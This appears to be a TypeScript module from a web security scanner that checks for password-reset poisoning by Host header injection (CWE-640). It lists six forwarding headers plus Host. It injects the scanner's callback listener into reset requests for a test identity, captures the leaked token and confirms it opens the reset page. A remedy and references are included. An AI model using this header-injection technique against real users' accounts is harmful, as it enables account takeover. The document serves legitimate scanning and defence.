import { type Callback, callbackSpot } from '../../model/callbacks.ts';
import { claim, type Experiment, type HttpAction, type Step } from '../../model/experiment.ts';
import { escapePattern } from '../../proof/pattern.ts';
import { newTrialValues } from '../../proof/template.ts';
import { type CheckContext, defineCheck, notRun } from '../contract.ts';
import type { AnswerKinds } from '../decisions/answer-kinds.ts';
import { callbackWaitMs } from '../inputs/callback-look.ts';
import { inputSteps, requestOfInput } from '../inputs/open-input.ts';
import { resetOf, resetsIn } from '../logins/reset-forms.ts';
import { type AskedReset, lookAtResets, type StoreOf } from './asked-resets.ts';
import { linkWithToken, tokenName } from './reset-links.ts';
import { opens, pageWith, type ResetPage } from './reset-pages.ts';

type PoisonedReset = AskedReset & {
  header: string;
  /** What the header says, with `‹callback›`. */
  value: string;
  page: ResetPage;
  kinds: AnswerKinds;
  /** What stands before the token in what the listener is asked for. */
  context: string;
};

/** Headers that programs make absolute addresses of; each by itself may be the one. Source: RFC 7239, and the habit before it. */
const headers: readonly { name: string; write: (spot: string) => string }[] = [
  { name: 'X-Forwarded-Host', write: (spot) => spot },
  { name: 'X-Host', write: (spot) => spot },
  { name: 'X-Forwarded-Server', write: (spot) => spot },
  { name: 'X-HTTP-Host-Override', write: (spot) => spot },
  { name: 'Forwarded', write: (spot) => `host="${spot}"` },
  { name: 'Origin', write: (spot) => `http://${spot}` },
];
const hostItself = [{ name: 'Host', write: (spot: string) => spot }];

/** The link of a mail for a new password leads to a host that the request named, and takes its token there. Source: CWE-640, WSTG-INPV-17. */
export const resetPoisoning = defineCheck<PoisonedReset>({
  id: 'auth.reset-poisoning',
  title: 'Account takeover: password reset poisoning (Host header injection)',
  cwe: 640,
  owasp: 'A07:2025',
  cvss: 'CVSS:3.1/AV:N/AC:L/PR:N/UI:R/S:U/C:H/I:H/A:N',
  depth: 'deep',
  risk: 'caution',

  detect(context) {
    const { surface, callbacks } = context;
    if (!callbacks && resetsIn([...surface.inputs, ...(surface.heldInputs ?? [])]).length > 0)
      return notRun('no_callback_listener', 'there is no listener for callbacks (CALLBACK_HOST is not set)');
    return lookAtResets(
      context,
      (store, reset) => poisonedBy(context, store, reset),
      ({ name, header }) =>
        `The link for a new password of "${name}" led to the host that ${header} named, which was given its token.`,
    );
  },

  confirm: (_context, { data }) => data && experimentFor(data),

  explain: {
    description:
      'The link that is sent for a new password is made of a host that the request names in a header. Who asks for a new password of somebody else has the link lead to a host of their own, and is given the token as soon as the link is followed, by its owner or by a program that looks at mails.',
    impact: 'With the token an attacker sets a new password of the account, and is its owner.',
    sends:
      'Only with `writes: "create"`: asks up to 2 forms for a new password of a test identity, with the address of our listener in `X-Forwarded-Host` and five further headers, then in `Host`; opens the page that the called link names. No password is set.',
    proves:
      'Our listener is called by the link of the reset, twice, and the token in what it was asked for opens the page for a new password of the test identity; a random token does not. With the address in a header of a random name nobody calls.',
    remedy:
      'Make links of a configured address (`APP_URL`, Django’s sites, Rails `default_url_options`), never of the request. Let the outermost proxy overwrite `X-Forwarded-Host`, and refuse unknown hosts (Django `ALLOWED_HOSTS`, Rails `config.hosts`, Symfony `trusted_hosts`).',
    references: [
      'CWE-640: https://cwe.mitre.org/data/definitions/640.html',
      'OWASP Forgot Password Cheat Sheet: https://cheatsheetseries.owasp.org/cheatsheets/Forgot_Password_Cheat_Sheet.html',
      'WSTG-INPV-17: https://owasp.org/www-project-web-security-testing-guide/stable/4-Web_Application_Security_Testing/07-Input_Validation_Testing/17-Testing_for_Host_Header_Injection',
    ],
  },
});

async function poisonedBy(
  context: CheckContext,
  store: StoreOf,
  reset: AskedReset,
): Promise<PoisonedReset | undefined> {
  const { callbacks } = context;
  if (!callbacks) return undefined;
  for (const together of [headers, hostItself]) {
    const tried = together.map(({ name, write }) => {
      const token = callbacks.newToken();
      return { token, name, write, value: write(spotOf(callbacks.host, token)) };
    });
    const action = withHeaders(
      resetOf(reset.input, reset.name),
      tried.map(({ name, value }) => [name, value]),
    );
    const request = await requestOfInput(context, reset.input, action, newTrialValues(context.nonce));
    await store('', request, async () => undefined);
    const calls = await callbacks.wait(
      tried.map(({ token }) => token),
      callbackWaitMs,
    );
    for (const { token, name, write } of tried) {
      const found = await openedBy(
        context,
        store,
        reset,
        calls.filter((call) => call.token === token),
      );
      if (found) return { ...reset, ...found, header: name, value: write(spotOf(callbacks.host, '‹callback›')) };
    }
  }
  return undefined;
}

/** A path of the site follows. */
const spotOf = (host: string, token: string): string => callbackSpot(host, token).replace(/\/$/, '');

/** @param given in the place of those that the action has by the same names */
function withHeaders(action: HttpAction, given: readonly (readonly [string, string])[]): HttpAction {
  const names = new Set(given.map(([name]) => name.toLowerCase()));
  return {
    ...action,
    headers: [...(action.headers ?? []).filter(([name]) => !names.has(name.toLowerCase())), ...given],
  };
}

async function openedBy(
  context: CheckContext,
  store: StoreOf,
  { input }: AskedReset,
  calls: readonly Callback[],
): Promise<Pick<PoisonedReset, 'page' | 'kinds' | 'context'> | undefined> {
  for (const { token, protocol, detail } of calls) {
    if (protocol !== 'http' && protocol !== 'https') continue;
    const address = detail.replace(/^\S+ /, '').replace(`/${token}`, '');
    for (const { before, token: secret, after } of linkWithToken(address)) {
      const page = { before: new URL(before, input.url).href, after };
      const kinds = await opens(context, store, page, secret);
      if (kinds) return { page, kinds, context: before };
    }
  }
  return undefined;
}

function experimentFor({ input, name, header, value, page, kinds, context }: PoisonedReset): Experiment {
  const ask = (headerName: string, spot: string, note: string): Step[] =>
    inputSteps(input, withHeaders(resetOf(input, name), [[headerName, spot]]), { note, expect: [], hasEffect: true });
  const second = value.replace('‹callback›', '‹callback2›');
  return {
    steps: [
      ...ask(header, value, `A new password is asked for "${name}"; ${header} names our listener.`),
      {
        callback: { token: '‹callback›', waitMs: callbackWaitMs },
        note: 'Whoever follows the link calls the listener, with the token.',
        expect: [claim('callback:requests', 'matches', `${escapePattern(context)}[\\w.~%-]{4,300}`)],
        capture: [
          {
            name: tokenName,
            subject: 'callback:requests',
            pattern: `${escapePattern(context)}([\\w.~%-]{4,300})`,
            secret: true,
          },
        ],
      },
      {
        http: pageWith(page, `‹${tokenName}›`),
        note: 'The token opens the page for a new password.',
        expect: kinds.other,
      },
    ],
    control: [
      ...ask('X-‹nonce›', second, 'The same in a header that no program knows.'),
      {
        callback: { token: '‹callback2›', waitMs: callbackWaitMs },
        note: 'Nobody calls.',
        expect: [claim('callback:protocols', 'present')],
      },
    ],
  };
}
